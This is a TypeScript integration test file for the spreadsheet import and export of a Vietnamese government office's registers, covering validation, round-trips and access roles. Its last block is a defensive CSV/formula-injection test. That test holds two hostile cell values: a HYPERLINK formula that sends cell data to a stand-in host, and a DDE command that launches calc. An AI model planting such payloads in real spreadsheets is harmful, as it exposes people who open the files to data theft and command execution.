import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../server/src/features/registers/register-sheets.js';
import type { GraphQLCaller } from '../helpers/test-app.js';
import { startTestApp, type TestApp } from '../helpers/test-app.js';

let t: TestApp;
let office: GraphQLCaller;

interface Preview {
  rows: { row: number; cells: string[]; change: string | null; problems: string[] }[];
  problems: { row: number; message: string }[];
  counts: { new: number; update: number; unchanged: number; bad: number };
  code?: string;
  message?: string;
}

const DOC_HEADER = ['Loại văn bản', 'Số, ký hiệu', 'Ngày ban hành', 'Mã đơn vị ban hành', 'Trích yếu'];
const TTHC_HEADER = [
  'Mã TTHC',
  'Tên thủ tục',
  'Cấp',
  'Cơ chế',
  'Dịch vụ công trực tuyến',
  'Bưu chính công ích',
  'Thời hạn giải quyết (ngày)',
  'Số ngày cắt giảm',
];

async function xlsx(header: string[], rows: unknown[][]): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Sổ');
  sheet.addRow(header);
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

async function get(caller: GraphQLCaller | null, path: string) {
  const res = await fetch(`${t.url}${path}`, { headers: caller?.cookie ? { cookie: caller.cookie } : {} });
  return { status: res.status, type: res.headers.get('content-type'), bytes: Buffer.from(await res.arrayBuffer()) };
}
async function post(caller: GraphQLCaller | null, path: string, body: Buffer) {
  const headers: Record<string, string> = { 'content-type': 'application/octet-stream' };
  if (caller?.cookie) headers.cookie = caller.cookie;
  const res = await fetch(`${t.url}${path}`, { method: 'POST', headers, body: new Uint8Array(body) });
  return { status: res.status, body: (await res.json()) as Preview };
}

async function count(table: string, year: number): Promise<number> {
  const rows = await t.sql<{ n: string }>(`select count(*) as n from ${table} where year = ?`, [year]);
  return Number(rows[0]?.n);
}
const auditCount = async () => Number((await t.sql<{ n: string }>('select count(*) as n from audit_entry'))[0]?.n);

beforeAll(async () => {
  t = await startTestApp();
  office = await t.as('vanphong');
});
afterAll(() => t?.close());

describe('register import and export', () => {
  it('previews a good XLSX of directive documents without writing, then imports it', async () => {
    const file = await xlsx(DOC_HEADER, [
      ['Kế hoạch', '12/KH-SNN', new Date(Date.UTC(2023, 1, 3)), 'SNN', 'Kế hoạch kiểm tra công vụ năm 2023'],
      ['Công văn', '345 / SNN - VP', '15/03/2023', 'vp', 'Về việc chấn chỉnh kỷ luật, kỷ cương hành chính'],
    ]);
    const before = await count('directive_document', 2023);
    const preview = await post(office, '/api/registers/directive-documents/2023/import-preview', file);
    expect(preview.status).toBe(200);
    expect(preview.body.problems).toEqual([]);
    expect(preview.body.rows.map((r) => [r.row, r.change])).toEqual([
      [2, 'NEW'],
      [3, 'NEW'],
    ]);
    expect(await count('directive_document', 2023)).toBe(before);

    const imported = await post(office, '/api/registers/directive-documents/2023/import', file);
    expect(imported.status).toBe(200);
    expect(imported.body.counts).toMatchObject({ new: 2, bad: 0 });
    const docs = await t.sql<{ number: string; issued_on: string; type: string }>(
      "select number, to_char(issued_on, 'YYYY-MM-DD') as issued_on, type from directive_document where year = 2023 order by issued_on",
    );
    expect(docs).toEqual([
      { number: '12/KH-SNN', issued_on: '2023-02-03', type: 'KE_HOACH' },
      { number: '345/SNN-VP', issued_on: '2023-03-15', type: 'CONG_VAN' },
    ]);
    const audit = await t.sql<{ n: string }>(
      "select count(*) as n from audit_entry where entity_type = 'DirectiveDocument' and action = 'CREATE' and after->>'number' in ('12/KH-SNN', '345/SNN-VP')",
    );
    expect(Number(audit[0]?.n)).toBe(2);

    // The same file again changes nothing; an edited summary is an update
    const again = await post(office, '/api/registers/directive-documents/2023/import-preview', file);
    expect(again.body.rows.map((r) => r.change)).toEqual(['UNCHANGED', 'UNCHANGED']);
    const edited = await xlsx(DOC_HEADER, [
      ['Kế hoạch', '12/KH-SNN', '03/02/2023', 'SNN', 'Kế hoạch kiểm tra công vụ năm 2023 (sửa đổi)'],
    ]);
    const update = await post(office, '/api/registers/directive-documents/2023/import', edited);
    expect(update.body.rows.map((r) => r.change)).toEqual(['UPDATE']);
    const summary = await t.sql<{ summary: string }>(
      "select summary from directive_document where number = '12/KH-SNN' and year = 2023",
    );
    expect(summary[0]?.summary).toBe('Kế hoạch kiểm tra công vụ năm 2023 (sửa đổi)');
  });

  it('names every bad row with its reason and writes nothing, even when imported directly', async () => {
    const docs = await xlsx(DOC_HEADER, [
      ['Kế hoạch', '20/KH-SNN', '01/04/2024', 'SNN', 'Đúng'],
      ['Công văn', '21-SNN/VP', '02/04/2024', 'SNN', 'Sai số ký hiệu'],
      ['Công văn', '22/SNN-VP', '02/04/2024', 'KHONGCO', 'Đơn vị không có'],
      ['Kế hoạch', '20/KH-SNN', '03/04/2024', 'SNN', 'Trùng số'],
      ['Công văn', '', '04/04/2024', 'SNN', 'Thiếu số'],
      ['Thư mời', '23/SNN-VP', '05/04/2024', 'SNN', 'Loại sai'],
      ['Công văn', '24/SNN-VP', '05/04/2023', 'SNN', 'Năm khác'],
    ]);
    const before = await count('directive_document', 2024);
    const audits = await auditCount();
    const preview = await post(office, '/api/registers/directive-documents/2024/import-preview', docs);
    expect(preview.status).toBe(200);
    const reasons = new Map(preview.body.rows.map((r) => [r.row, r.problems.join(' ')]));
    expect(reasons.get(2)).toBe('');
    expect(reasons.get(3)).toContain('Số, ký hiệu văn bản phải gồm số');
    expect(reasons.get(4)).toContain('Không có đơn vị nào mã "KHONGCO"');
    expect(reasons.get(5)).toContain('trùng với dòng 2 của tệp');
    expect(reasons.get(6)).toContain('Thiếu ô "Số, ký hiệu"');
    expect(reasons.get(7)).toContain('Loại văn bản "Thư mời" không hợp lệ');
    expect(reasons.get(8)).toContain('không thuộc năm 2024');
    expect(preview.body.counts).toMatchObject({ new: 1, bad: 6 });

    const refused = await post(office, '/api/registers/directive-documents/2024/import', docs);
    expect(refused.status).toBe(422);
    expect(refused.body.code).toBe('REGISTER_IMPORT_INVALID');
    const refusedRows = (refused.body as unknown as { rows: { row: number; message: string }[] }).rows;
    expect(new Set(refusedRows.map((r) => r.row))).toEqual(new Set([3, 4, 5, 6, 7, 8]));
    expect(await count('directive_document', 2024)).toBe(before);
    expect(await auditCount()).toBe(audits);

    const tthc = await xlsx(TTHC_HEADER, [
      ['T-1', 'Cấp giấy phép A', 'Tỉnh', 'Một cửa', 'Toàn trình', 'Có', 20, 5],
      ['T-1', 'Trùng mã', 'Tỉnh', 'Một cửa', 'Toàn trình', 'Có', 20, 5],
      ['T-2', '', 'Tỉnh', 'Một cửa', 'Toàn trình', 'Có', 20, 5],
      ['T-3', 'Cắt nhiều quá', 'Huyện', 'Một cửa liên thông', 'Một phần', 'Không', 10, 12],
      ['T-4', 'Cấp sai', 'Trung ương', 'Một cửa', 'Không', 'Có', 10, 0],
      ['T-5', 'Ngày lẻ', 'Xã', 'Một cửa', 'Không', 'Có', '7,5', null],
    ]);
    const tthcBefore = await count('administrative_procedure', 2024);
    const tthcPreview = await post(office, '/api/registers/administrative-procedures/2024/import-preview', tthc);
    const tthcReasons = new Map(tthcPreview.body.rows.map((r) => [r.row, r.problems.join(' ')]));
    expect(tthcReasons.get(2)).toBe('');
    expect(tthcReasons.get(3)).toContain('Mã TTHC "T-1" trùng với dòng 2');
    expect(tthcReasons.get(4)).toContain('Thiếu ô "Tên thủ tục"');
    expect(tthcReasons.get(5)).toContain('Số ngày cắt giảm không được lớn hơn');
    expect(tthcReasons.get(6)).toContain('Cấp "Trung ương" không hợp lệ');
    expect(tthcReasons.get(7)).toContain('phải là số ngày nguyên');
    const tthcRefused = await post(office, '/api/registers/administrative-procedures/2024/import', tthc);
    expect(tthcRefused.status).toBe(422);
    expect(await count('administrative_procedure', 2024)).toBe(tthcBefore);
    expect(await auditCount()).toBe(audits);

    const notAFile = await post(
      office,
      '/api/registers/administrative-procedures/2024/import-preview',
      Buffer.from('x'),
    );
    expect(notAFile.body.problems[0]?.message).toContain('Dòng tiêu đề phải có các cột');
    const notAFileImport = await post(office, '/api/registers/administrative-procedures/2024/import', Buffer.from('x'));
    expect(notAFileImport.status).toBe(422);
    expect(notAFileImport.body.message).toMatch(/^Dòng tiêu đề phải có các cột.*Chưa có gì được lưu\.$/);
    const wrongRegister = await post(office, '/api/registers/index-results/2024/import-preview', tthc);
    expect(wrongRegister.body.problems[0]?.row).toBe(0);
  });

  it.each(['xlsx', 'csv'])('round-trips the 2021 registers through %s as unchanged rows', async (format) => {
    for (const register of ['directive-documents', 'administrative-procedures', 'index-results']) {
      const exported = await get(office, `/api/registers/${register}/2021.${format}`);
      expect(exported.status).toBe(200);
      if (format === 'csv') {
        expect(exported.type).toContain('text/csv');
        expect([...exported.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      }
      const preview = await post(office, `/api/registers/${register}/2021/import-preview`, exported.bytes);
      expect(preview.body.problems, register).toEqual([]);
      expect(preview.body.rows.length, register).toBeGreaterThan(0);
      expect(new Set(preview.body.rows.map((r) => r.change)), register).toEqual(new Set(['UNCHANGED']));
    }
    const tthc = await get(office, '/api/registers/administrative-procedures/2021.csv');
    expect(tthc.bytes.toString('utf8')).toContain('Bưu chính công ích');
    expect(tthc.bytes.toString('utf8').trim().split('\r\n')).toHaveLength(92);
  });

  it('imports a CSV with semicolons and decimal commas', async () => {
    const csv = Buffer.from(
      '\uFEFFChỉ số;Tổng điểm;Xếp hạng;Ghi chú;Điểm thành phần\r\nSIPAS;"85,5";3;;"Tiếp cận dịch vụ: 80,25/100; Thủ tục: 90"\r\n',
      'utf8',
    );
    const imported = await post(office, '/api/registers/index-results/2025/import', csv);
    expect(imported.status).toBe(200);
    const rows = await t.sql<{ total_score: number; rank: number; components: unknown }>(
      "select total_score, rank, components from index_result where year = 2025 and assessment_index = 'SIPAS'",
    );
    expect(rows[0]).toMatchObject({ total_score: 85.5, rank: 3 });
    expect(rows[0]?.components).toEqual([
      { name: 'Tiếp cận dịch vụ', score: 80.25, maxScore: 100 },
      { name: 'Thủ tục', score: 90, maxScore: null },
    ]);
  });

  it('lets office and admin write, leadership only read, others nothing', async () => {
    const file = await xlsx(TTHC_HEADER, [['R-1', 'Thủ tục thử', 'Tỉnh', 'Một cửa', 'Không', 'Không', 5, 0]]);
    const leadership = await t.as('lanhdao');
    expect((await get(leadership, '/api/registers/administrative-procedures/2021.xlsx')).status).toBe(200);
    expect((await post(leadership, '/api/registers/administrative-procedures/2026/import-preview', file)).status).toBe(
      403,
    );
    expect((await post(leadership, '/api/registers/administrative-procedures/2026/import', file)).status).toBe(403);
    const inspector = await t.as('kiemtra');
    expect((await get(inspector, '/api/registers/administrative-procedures/2021.csv')).status).toBe(403);
    expect((await get(null, '/api/registers/administrative-procedures/2021.csv')).status).toBe(401);
    expect((await post(null, '/api/registers/administrative-procedures/2026/import', file)).status).toBe(401);
    expect((await post(await t.as('admin'), '/api/registers/administrative-procedures/2026/import', file)).status).toBe(
      200,
    );
    expect(await count('administrative_procedure', 2026)).toBe(1);
    expect((await get(office, '/api/registers/nothing/2021.csv')).status).toBe(404);
    expect((await get(office, '/api/registers/index-results/1900.csv')).status).toBe(400);
  });
});

describe('formula injection (issue 13)', () => {
  const HOSTILE_NOTES = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0"];

  it('exports formula-like text behind an apostrophe in CSV and xlsx, keeps the stored text, and imports back unchanged', async () => {
    const file = await xlsx(
      ['Chỉ số', 'Tổng điểm', 'Xếp hạng', 'Ghi chú', 'Điểm thành phần'],
      [
        ['SIPAS', 80, 1, HOSTILE_NOTES[0], ''],
        ['PAR INDEX', 81, 2, HOSTILE_NOTES[1], ''],
      ],
    );
    expect((await post(office, '/api/registers/index-results/2036/import', file)).status).toBe(200);
    const stored = await t.sql<{ note: string }>(
      'select note from index_result where year = 2036 order by total_score',
    );
    expect(stored.map((r) => r.note)).toEqual(HOSTILE_NOTES);

    const csv = (await get(office, '/api/registers/index-results/2036.csv')).bytes;
    const fields = parseCsv(csv.toString('utf8')).flat();
    expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
    expect(fields).toEqual(expect.arrayContaining(HOSTILE_NOTES.map((note) => `'${note}`)));

    const exported = (await get(office, '/api/registers/index-results/2036.xlsx')).bytes;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(exported as unknown as ArrayBuffer);
    const notes: unknown[] = [];
    workbook.worksheets[0]?.eachRow((row, n) => {
      if (n > 1) notes.push(row.getCell(4).value);
    });
    expect([...notes].sort()).toEqual(HOSTILE_NOTES.map((note) => `'${note}`).sort());

    for (const [format, bytes] of [
      ['csv', csv],
      ['xlsx', exported],
    ] as const) {
      const preview = await post(office, '/api/registers/index-results/2036/import-preview', bytes);
      expect(
        preview.body.rows.map((r) => r.change),
        format,
      ).toEqual(['UNCHANGED', 'UNCHANGED']);
    }
  });
});
